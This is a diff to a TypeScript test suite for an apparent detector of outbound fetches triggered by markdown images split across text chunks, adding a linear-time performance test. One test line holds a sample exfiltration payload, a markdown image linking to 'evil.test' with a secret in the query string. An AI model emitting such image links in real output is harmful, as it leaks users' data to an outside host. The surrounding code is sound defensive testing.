@@ -90,6 +90,11 @@ it("takes long texts in time that grows with their length", () => {
     expect([text, growsInProportion(read(text), 2_000)]).toEqual([text, true]);
 });
 
+it("takes long texts that are joined in time that grows with their length", () => {
+  const joined = (size: number) => fetchedWhenJoined(["![](", "a".repeat(size)], "http://here/");
+  expect(growsInProportion(joined, 4_000)).toBe(true);
+});
+
 it("counts a picture of which the beginning stands in one text and the address in another", () => {
   const joined = (...texts: string[]) => fetchedWhenJoined(texts, "http://here/").map(({ host }) => host);
   expect(joined("![](", "https://evil.test/?d=SECRET", ")")).toContain("evil.test");
